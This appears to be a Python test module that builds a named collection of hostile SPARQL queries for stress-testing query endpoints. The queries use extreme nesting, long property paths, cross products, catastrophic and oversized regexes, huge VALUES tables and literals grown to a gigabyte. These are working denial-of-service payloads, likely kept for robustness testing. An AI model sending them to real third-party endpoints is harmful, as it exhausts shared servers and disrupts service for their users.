"""Queries that break endpoints, and what each attacks."""


def _nested(opening: str, closing: str, depth: int, core: str = "") -> str:
    return f"ASK {{ ?s ?p ?o {opening * depth}{core}{closing * depth} }}"


def _deep(depth: int) -> dict[str, str]:
    return {
        f"EXISTS {depth:,} deep": _nested("FILTER EXISTS { ?a ?b ?c ", "}", depth),
        f"IF {depth:,} deep": _nested("", "", 0, f"FILTER({'IF(true,' * depth}1{',2)' * depth})"),
        f"OPTIONAL {depth:,} deep": _nested("OPTIONAL { ?a ?b ?c ", "}", depth),
        f"brackets {depth:,} deep": _nested("", "", 0, f"FILTER({'(' * depth}1{')' * depth})"),
        f"groups {depth:,} deep": _nested("{", "}", depth),
        f"UNION {depth:,} deep": _nested("{ ?a ?b ?c } UNION {", "}", depth),
        f"UNION of {depth:,}": _nested("", "", 0, "{ ?a ?b ?c }" + "UNION { ?a ?b ?c }" * depth),
        f"blank nodes {depth:,} deep": _nested(
            "", "", 0, f". ?x ?y {'[ ?y ' * depth}1{']' * depth}"
        ),
        f"NOT of NOT, {depth:,} deep": _nested("", "", 0, f"FILTER({'!' * depth}true)"),
        f"a sum of {depth:,}": _nested("", "", 0, f"FILTER(0 < 1{'+1' * depth})"),
        f"OPTIONAL in a row, {depth:,}": _nested("", "", 0, "OPTIONAL { ?s ?x ?y }" * depth),
    }


HUGE_VALUES = " ".join(f"<http://example.org/{number}>" for number in range(2_500))


def _doubled(times: int) -> str:
    doubling = (f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(times))
    return f"BIND('x' AS ?x0) {' '.join(doubling)}"


ALL_TWICE = "?a ?b ?c . ?d ?e ?f"
ALL_THRICE = f"{ALL_TWICE} . ?g ?h ?i"

HOSTILE = {
    **_deep(1_000),
    **_deep(10_000),
    "a path of 1,000 steps": f"ASK {{ ?s {'/'.join(['rdf:type'] * 1_000)} ?o }}",
    "a path of 1,000 stars": f"ASK {{ ?s {'/'.join(['rdf:type*'] * 1_000)} ?o }}",
    "cross product sorted": f"SELECT * {{ {ALL_THRICE} }} ORDER BY ?i LIMIT 5",
    "cross product grouped": (
        f"SELECT ?a ?d ?g (COUNT(*) AS ?n) {{ {ALL_THRICE} }} GROUP BY ?a ?d ?g"
    ),
    "cross product made distinct": f"SELECT DISTINCT ?a ?d ?g {{ {ALL_THRICE} }}",
    "cross product glued": f"SELECT (GROUP_CONCAT(?i) AS ?x) {{ {ALL_THRICE} }}",
    "cross product counted": f"SELECT (COUNT(*) AS ?n) {{ {ALL_THRICE} }}",
    "paths over everything": "SELECT * { ?s (!<http://none/>)* ?o . ?o (!<http://none/>)* ?x }",
    "a catastrophic regex": (
        "SELECT (COUNT(*) AS ?n) { ?s ?p ?o . ?t ?q ?r "
        "FILTER REGEX(CONCAT(STR(?s), STR(?t)), '^(([a-z:/.])+.)+[A-Z]([a-z])+$') }"
    ),
    "a huge regex": "ASK { FILTER REGEX('x', '((a{0,1000}){0,1000}){0,1000}') }",
    "huge VALUES": (
        f"SELECT * {{ VALUES ?a {{ {HUGE_VALUES} }} VALUES ?b {{ {HUGE_VALUES} }} }} ORDER BY ?b"
    ),
    "endless CONSTRUCT": f"CONSTRUCT {{ ?a ?b ?f . ?d ?e ?c }} WHERE {{ {ALL_TWICE} }}",
    "a literal of a gigabyte": f"SELECT (STRLEN(?x30) AS ?n) {{ {_doubled(30)} }}",
    "a literal grown by REPLACE": (
        f"SELECT ?y {{ {_doubled(17)} BIND(REPLACE(?x17, 'x', ?x17) AS ?y) }}"
    ),
    "a text of 10 MB": "ASK { ?s ?p '" + "x" * 10_000_000 + "' }",
}
